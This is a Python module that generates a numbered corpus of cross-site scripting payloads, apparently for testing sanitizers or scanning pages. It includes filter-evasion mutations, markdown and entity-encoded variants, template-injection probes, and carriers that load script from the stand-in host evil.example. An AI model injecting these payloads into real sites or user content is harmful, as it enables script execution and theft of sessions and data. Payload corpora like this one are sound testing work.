"""Texts that run a script wherever they are taken for more than a text.

A payload calls `__xss` with its number, so that a page that runs one tells which.
"""

import itertools
import re
from collections.abc import Iterable, Iterator

BREAKERS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "\n\n",
)
"""What ends the place where the text stands."""
CARRIERS = (
    "<script>#</script>",
    "<img src=x onerror=#>",
    "<svg onload=#>",
    "<svg><animate onbegin=# attributeName=x dur=1s>",
    "<svg><script>#</script></svg>",
    '<svg><a xlink:href="javascript:#"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>#</script></svg>#x"/></svg>',
    "<body onload=#>",
    "<details open ontoggle=#>",
    "<video><source onerror=#></video>",
    "<audio src=x onerror=#>",
    "<input autofocus onfocus=#>",
    "<xss autofocus tabindex=1 onfocus=#>",
    '<iframe srcdoc="<script>parent.#</script>"></iframe>',
    '<iframe src="javascript:parent.#"></iframe>',
    '<object data="javascript:#"></object>',
    '<embed src="javascript:#">',
    '<a href="javascript:#">x</a>',
    '<a href="jAvA\tscRipt:#">x</a>',
    '<form action="javascript:#"><button>x</button></form>',
    '<button formaction="javascript:#" form=f>x</button>',
    '<math href="javascript:#">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:#">x</maction></math>',
    '<meta http-equiv=refresh content="0;url=javascript:#">',
    "<base href=//evil.example/>",
    '<link rel=stylesheet href="//evil.example/#.css">',
    "<style>@import '//evil.example/#.css';</style>",
    "<div style=\"background:url('//evil.example/#')\">x</div>",
    "<marquee onstart=#>x</marquee>",
    '<table background="//evil.example/#"><td>x</table>',
    "<script src=//evil.example/#></script>",
    "<template><script>#</script></template>",
    "<select><option><script>#</script></select>",
    "<x onclick=# onmouseover=# onpointerenter=#>x</x>",
    "<img src=`x`onerror=#>",
    "<img/src/onerror=#>",
    "<svg/onload=#//",
    "<<script>#//<</script>",
    "<img src=x onerror=# <",
    "<scr<script>ipt>#</scr</script>ipt>",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=#>">',
    '<svg></p><style><a id="</style><img src=1 onerror=#>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=#&gt;">',
    "<math><mtext><mglyph><malignmark><style><img src onerror=#></style>",
    '<svg><title><style><a title="</style></title><img src onerror=#>"></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=#>',
    '<p id="</p><img src=x onerror=#>">',
    "<xmp><p title=\"</xmp><svg/onload=#>\">",
    "<textarea><img title=\"</textarea><img src onerror=#>\">",
    "<listing>&lt;img src onerror=#&gt;</listing>",
    "<plaintext><img src onerror=#>",
    "<!--<img src='--><img src=x onerror=#>'>",
    "<![CDATA[<img src=x onerror=#>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>#</x:script>",
    "<frameset onload=#>",
    "<a id=x tabindex=1 onfocusin=#></a>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:#)",
    "[x](JaVaScRiPt:#)",
    "[x](java&#x0A;script:#)",
    "[x](&#106;avascript:#)",
    "[x](javascript&colon;#)",
    "[x](<javascript:#>)",
    "[x](vbscript:#)",
    "[x](data:text/html,<script>#</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+ '#')",
    "![x](javascript:#)",
    "![x](https://evil.example/#.png)",
    '![x" onerror="#](y)',
    '[x](https://a.example" onmouseover="#)',
    '[x](https://a.example "title\\" onmouseover=#")',
    "<javascript:#>",
    "[x]: javascript:#\n[x]",
    "`<img src=x onerror=#>`",
    "    <img src=x onerror=#>",
    "```\n</code></pre><img src=x onerror=#>\n```",
    "[<img src=x onerror=#>](https://a.example)",
    "[x](//evil.example/#)",
    "* <svg onload=#>\n# <svg onload=#>\n> <svg onload=#>",
    "<https://a.example/\"onmouseover=#>",
    "**<b onclick=#>**",
    "[x](\x01javascript:#)",
    "[x](feed:javascript:#)",
    "[x](blob:#) [y](filesystem:#) [z](file:///#)",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;#&lt;/script&gt;",
    "&#60;img src=x onerror=#&#62;",
    "&#x3c;svg onload=#&#x3e;",
    "&amp;lt;script&amp;gt;#&amp;lt;/script&amp;gt;",
    "%3Cscript%3E#%3C/script%3E",
    "\\u003cscript\\u003e#\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=#\\x3e",
    "+ADw-script+AD4-#+ADw-/script+AD4-",
    "\uff1cscript\uff1e#\uff1c/script\uff1e",
    "&quot; onmouseover=&quot;#",
    "\" onmouseover=# x=\"",
    "' onfocus=# autofocus x='",
    "` onerror=# `",
    "javascript:#",
    "data:text/html,<script>#</script>",
    "';#//",
    '";#//',
    "\\';#//",
    "</script><script>#</script>",
    "${#}",
    "*/#/*",
)  # fmt: skip
BRACES = (
    "{{7*7}}",
    "{{ config }}",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('#')()}}",
    "{% import os %}{{ os }}",
    "{# # #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "@(7*7)",
    "{{ x|safe }}{{{x}}}",
    "{{=<% %>=}}<%7*7%>",
)
ODD = (
    "\u202e<script>#</script>\u202c",
    "\u2066<img src=x onerror=#>\u2069",
    "<scr\u200bipt>#</scr\u200bipt>",
    "<\ufeffimg src=x onerror=#>",
    "<img\u3000src=x\u3000onerror=#>",
    "<img\x0csrc=x\x0conerror=#>",
    "\ufffd<svg onload=#>",
    "<svg\u2028onload=#>",
    "e\u0301\u0301\u0301\u0301<img src=x onerror=#>",
)
NULS = ("<scr\0ipt>#</scr\0ipt>", "\0<img src=x onerror=#>", "<img src=x\0onerror=#>")
"""Only what comes over the network can hold one."""
_CALLS = ("__xss(@)", "__xss`@`", "top.__xss(@)", "window['__xss'](@)", "alert(__xss(@))")


def _grammar() -> Iterator[str]:
    for number, (breaker, carrier) in enumerate(itertools.product(BREAKERS, CARRIERS)):
        # Each carrier alone and behind every breaker in turn, so that the list stays short.
        if not breaker or number % 3 == 0:
            yield breaker + carrier
    yield from (*MUTATIONS, *MARKDOWN, *ENTITIES, *ODD)
    yield from (f"{breaker}{one}" for breaker in BREAKERS[1:] for one in CARRIERS[:12])


def _numbered(forms: Iterable[str]) -> list[str]:
    calls = itertools.cycle(_CALLS)
    return [
        form.replace("#", next(calls).replace("@", str(number)))
        for number, form in enumerate(forms)
    ]


PAYLOADS = [*_numbered(dict.fromkeys(_grammar())), *BRACES]
REFUSED = _numbered(NULS)
NUMBER = re.compile(r"__xss['\"\]]*[(`](\d+)")


def packed(payloads: list[str], longest: int, between: str = " ") -> list[str]:
    """Return all payloads in texts of at most `longest` signs; longer ones are left out."""
    texts, text = [], ""
    for payload in payloads:
        if len(payload) > longest:
            continue
        longer = f"{text}{between}{payload}" if text else payload
        if len(longer) > longest:
            texts.append(text)
            longer = payload
        text = longer
    return [*texts, text]
